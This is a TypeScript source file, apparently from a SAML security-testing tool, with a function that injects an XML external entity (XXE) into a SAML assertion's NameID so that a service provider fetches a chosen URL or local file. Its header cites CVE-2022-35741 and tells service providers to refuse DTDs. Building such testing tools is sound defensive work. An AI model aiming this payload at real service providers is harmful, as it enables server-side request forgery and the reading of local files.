/*
 * XML external entity (XXE, CWE-611; OWASP XXE Prevention Cheat Sheet; a SAML instance: CVE-2022-35741,
 * Apache CloudStack's SAML plugin): a DOCTYPE declares
 * `<!ENTITY x SYSTEM "url">` and the NameID's text becomes `&x;`. An SP whose parser resolves external entities
 * fetches the URL (SSRF, or a local file when it is file://) and may read its content as the identity. Point it
 * at a URL you watch to see whether the SP fetched it. saml-core §1.3: SAML messages need no DTD; refuse them.
 */
import { idpError } from '../errors.ts';
import { prependDoctype, referenceInNameId } from './doctype.ts';

export function externalEntity(xml: string, url: string): string {
  // A SYSTEM literal cannot hold its own quote character (XML 1.0 §2.3 SystemLiteral).
  if (url.includes('"')) throw idpError('builder/invalid', 'externalEntity: the URL cannot contain a double quote');
  return prependDoctype(referenceInNameId(xml, '&x;'), `<!ENTITY x SYSTEM "${url}">`);
}
